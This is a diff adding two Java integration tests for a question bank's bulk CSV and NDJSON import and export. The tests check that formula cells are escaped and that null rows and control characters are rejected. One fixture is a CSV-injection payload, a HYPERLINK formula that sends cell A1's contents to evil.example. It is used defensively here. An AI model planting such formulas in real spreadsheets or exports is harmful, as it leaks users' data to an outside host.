@@ -61,6 +61,61 @@ class BulkImportExportTest {
         }
     }
 
+    /**
+     * Finding 5 of issue 13: cells a spreadsheet would run as formulas are exported with a leading single
+     * quote (docs/question-service.md), and the import drops it again, so the bank round-trips exactly.
+     */
+    @Test
+    void shouldNeutraliseFormulaCellsInTheCsvExportAndRestoreThemOnImport() {
+        String f = firm();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+        var q = with(with(with(question(slug("formula")), "title", formula), "company", "@corp"),
+                "tags", List.of("-lead", "+1", "'quoted"));
+        q.put("prompt", "\tindented prompt");
+        create(as("coach", f), q);
+        String csv = as("coach", f).get("/api/questions/export?format=csv").then().statusCode(200).extract().asString();
+        String row = csv.split("\r\n")[1];
+        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""));
+        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'\tindented prompt,"));
+        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'@corp,"));
+        // a list cell is one field: it starts with its first tag
+        org.hamcrest.MatcherAssert.assertThat(row, org.hamcrest.Matchers.containsString(",'-lead|+1|'quoted,"));
+
+        String other = firm();
+        as("firm-admin", other).contentType("text/csv").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                .post("/api/questions/import?format=csv").then().statusCode(200).body("created", equalTo(1));
+        as("coach", other).get("/api/questions?scope=firm").then()
+                .body("items[0].title", equalTo(formula))
+                .body("items[0].company", equalTo("@corp"));
+        assertEquals(csv, as("coach", other).get("/api/questions/export?format=csv").then().extract().asString());
+    }
+
+    /** Finding 6 of issue 13: a JSON line that is the literal null, and control characters in cells. */
+    @Test
+    void shouldRefuseNullRowsAndControlCharactersRowByRow() throws Exception {
+        String f = firm();
+        String good = slug("good");
+        String body = String.join("\n",
+                line(question(good)),
+                "null",
+                line(with(question(slug("nul")), "title", "a\u0000b")),
+                line(with(question(slug("bell")), "tags", List.of("ok", "\u0007"))));
+        as("coach", f).contentType("application/x-ndjson").body(body.getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                .post("/api/questions/import").then().statusCode(200)
+                .body("created", equalTo(1)).body("failed", equalTo(3))
+                .body("rows[1].errors.field", hasItem("row"))
+                .body("rows[2].errors.field", hasItem("title"))
+                .body("rows[2].errors[0].message", org.hamcrest.Matchers.containsString("U+0000"))
+                .body("rows[3].errors.field", hasItem("tags[1]"));
+        String csv = "slug,title,prompt,category,role,roundType,timeBudgetSeconds,difficulty,rubric,answerFormat\r\n"
+                + slug("csv") + ",A \u0000title,A prompt,SQL,DATA_PM,DATA_CASE,600,EASY,sql-analysis,SQL\r\n";
+        as("coach", f).contentType("text/csv").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                .post("/api/questions/import?format=csv&mode=all-or-nothing").then().statusCode(422)
+                .body("rows[0].errors.field", hasItem("title"));
+        as("candidate", f).get("/api/questions?scope=firm").then().body("items.slug", contains(good));
+    }
+
     @Test
     void shouldReportEveryFailingRowAndApplyTheRestInPartialMode() throws Exception {
         String f = firm();
